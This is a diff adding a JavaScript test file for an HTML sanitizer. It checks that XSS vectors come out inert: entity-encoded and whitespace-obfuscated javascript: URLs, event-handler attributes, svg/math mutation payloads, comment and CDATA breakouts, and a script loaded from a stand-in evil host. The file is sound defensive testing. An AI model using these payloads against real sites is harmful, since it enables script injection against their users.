@@ -0,0 +1,211 @@
+/**
+ * sanitize.js: vektor XSS
+ *
+ * Hasil sanitizeHTML di-parse ulang oleh parser HTML sungguhan (jsdom,
+ * sebagai DOM shim di Node), lalu setiap elemen & atributnya diperiksa:
+ * yang dinilai adalah DOM yang nanti dibangun browser, bukan string-nya.
+ */
+
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { JSDOM } from 'jsdom';
+
+import { sanitizeHTML, SANITIZER_CONFIG } from '../assets/js/sanitize.js';
+import '../assets/js/widgets.js';
+
+const { document } = new JSDOM('<!DOCTYPE html><body></body>').window;
+
+const URL_ATTRIBUTES = ['href', 'src', 'cite', 'action', 'formaction', 'data', 'xlink:href', 'background', 'poster'];
+
+/**
+ * Parse HTML like the browser does (innerHTML) -> all elements
+ */
+function parse(html) {
+  const container = document.createElement('div');
+  container.innerHTML = html;
+  return [...container.querySelectorAll('*')];
+}
+
+/**
+ * Scheme of a URL as the browser reads it (whitespace/control chars ignored)
+ */
+function getScheme(url) {
+  const match = /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\u0000- \u007f-\u009f]/g, ''));
+  return match ? match[1].toLowerCase() : null;
+}
+
+/**
+ * Everything in the parsed output that could run script -> list of problems
+ */
+function findUnsafe(html) {
+  const problems = [];
+
+  parse(html).forEach(element => {
+    const tag = element.localName;
+
+    if (!Object.prototype.hasOwnProperty.call(SANITIZER_CONFIG.allowedTags, tag)) {
+      problems.push(`<${tag}>`);
+    }
+
+    [...element.attributes].forEach(({ name, value }) => {
+      if (name.startsWith('on') || name === 'srcdoc' || name === 'style') {
+        problems.push(`<${tag} ${name}>`);
+      }
+
+      const scheme = URL_ATTRIBUTES.includes(name) ? getScheme(value) : null;
+      if (scheme && !SANITIZER_CONFIG.allowedSchemes.includes(scheme)) {
+        problems.push(`<${tag} ${name}="${value}">`);
+      }
+    });
+  });
+
+  return problems;
+}
+
+/**
+ * Sanitized output is inert, and stays the same when sanitized again
+ */
+function assertSafe(vector) {
+  const output = sanitizeHTML(vector);
+
+  assert.deepEqual(findUnsafe(output), [], `${vector}\n  -> ${output}`);
+  assert.equal(sanitizeHTML(output), output, `not stable: ${vector}`);
+  return output;
+}
+
+test('the checker itself flags unsafe markup', () => {
+  assert.deepEqual(findUnsafe('<a href="java&#9;script:alert(1)">x</a>'), ['<a href="java\tscript:alert(1)">']);
+  assert.deepEqual(findUnsafe('<img src="x" onerror="alert(1)">'), ['<img onerror>']);
+  assert.deepEqual(findUnsafe('<iframe srcdoc="x"></iframe>'), ['<iframe>', '<iframe srcdoc>']);
+});
+
+test('javascript: URLs are removed', () => {
+  [
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="  javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="\u0001javascript:alert(1)">x</a>',
+    '<a href=javascript:alert(1)>x</a>',
+    "<a href='javascript:alert(1)'>x</a>",
+    '<img src="javascript:alert(1)">',
+    '<blockquote cite="javascript:alert(1)">x</blockquote>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>">'
+  ].forEach(vector => {
+    const output = assertSafe(vector);
+    assert.doesNotMatch(output, /href=|src=|cite=/, vector);
+  });
+});
+
+test('entity-encoded schemes are decoded before the check', () => {
+  [
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+    '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
+    '<a href="&#x6a&#x61vascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="javascript&#58;alert(1)">x</a>',
+    '<a href="java&Tab;script:alert(1)">x</a>',
+    '<a href="java&#9;script:alert(1)">x</a>',
+    '<a href="java&NewLine;script:alert(1)">x</a>',
+    '<a href="&#32;javascript:alert(1)">x</a>',
+    '<img src="&#106;avascript:alert(1)">'
+  ].forEach(vector => {
+    const output = assertSafe(vector);
+    assert.doesNotMatch(output, /href=|src=/, vector);
+  });
+});
+
+test('safe URLs are kept', () => {
+  assert.equal(sanitizeHTML('<a href="https://example.org/?a=1&amp;b=2">x</a>'),
+    '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer">x</a>');
+  assert.equal(sanitizeHTML('<a href="mailto:pps@example.org">x</a>'), '<a href="mailto:pps@example.org">x</a>');
+  assert.equal(sanitizeHTML('<a href="artikel/hukum-newton/#bagian">x</a>'), '<a href="artikel/hukum-newton/#bagian">x</a>');
+});
+
+test('script-capable elements are dropped with their content', () => {
+  [
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<style>body { background: url(javascript:alert(1)) }</style>',
+    '<svg onload="alert(1)"><circle r="1"></circle></svg>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<textarea><script>alert(1)</script></textarea>'
+  ].forEach(vector => {
+    assert.doesNotMatch(assertSafe(vector), /alert/i, vector);
+  });
+});
+
+test('document-level and form elements are removed', () => {
+  [
+    '<base href="javascript:alert(1)//">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel="stylesheet" href="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
+    '<input autofocus onfocus="alert(1)">',
+    '<details open ontoggle="alert(1)">x</details>',
+    '<video><source onerror="alert(1)"></video>'
+  ].forEach(vector => {
+    assert.doesNotMatch(assertSafe(vector), /</, vector);
+  });
+});
+
+test('srcdoc, style and on* attributes are removed from allowed tags', () => {
+  [
+    ['<p onclick="alert(1)">x</p>', '<p>x</p>'],
+    ['<p ONCLICK=alert(1)>x</p>', '<p>x</p>'],
+    ['<p onmouseover=alert(1)//>x</p>', '<p>x</p>'],
+    ['<a href="#" onfocus="alert(1)" autofocus>x</a>', '<a href="#">x</a>'],
+    ['<img src="a.png" onerror="alert(1)">', '<img src="a.png">'],
+    ['<img src=x onerror=alert(1)//>', '<img src="x">'],
+    ['<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>', '<div>x</div>'],
+    ['<p style="background:url(javascript:alert(1))">x</p>', '<p>x</p>'],
+    ['<p\nonclick="alert(1)">x</p>', '<p>x</p>'],
+    ['<div data-widget="ohms-law" onclick="alert(1)" data-voltage="12">x</div>',
+      '<div data-widget="ohms-law" data-voltage="12">x</div>']
+  ].forEach(([vector, expected]) => {
+    assert.equal(assertSafe(vector), expected, vector);
+  });
+});
+
+test('markup inside attribute values stays text', () => {
+  [
+    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
+    '<p title=\'"><script>alert(1)</script>\'>x</p>',
+    '<a href="https://example.org/"onclick="alert(1)">x</a>',
+    '<img src="x`onerror=alert(1)`">'
+  ].forEach(vector => assertSafe(vector));
+});
+
+test('broken and nested tags cannot rebuild a dangerous tag', () => {
+  [
+    '<scr<script>ipt>alert(1)</script>',
+    '<<script>script>alert(1)<</script>/script>',
+    '<scr<!-- -->ipt>alert(1)</script>',
+    '<!--<img src=x onerror=alert(1)>-->',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<![CDATA[<img src=x onerror=alert(1)>]]>',
+    '<img src=x onerror=alert(1)',
+    '<a href="javascript:alert(1)',
+    '</p><img src=x onerror=alert(1)>'
+  ].forEach(vector => assertSafe(vector));
+});
+
+test('tag and entity names from Object.prototype are not allowed', () => {
+  assert.equal(sanitizeHTML('<constructor>x</constructor>'), 'x');
+  assert.equal(sanitizeHTML('<tostring>x</tostring><hasownproperty>y</hasownproperty>'), 'xy');
+  assert.equal(sanitizeHTML('<p title="&constructor;">x</p>'), '<p title="&amp;constructor;">x</p>');
+  ['<__proto__>x</__proto__>', '<valueof onclick="alert(1)">x</valueof>']
+    .forEach(vector => assertSafe(vector));
+});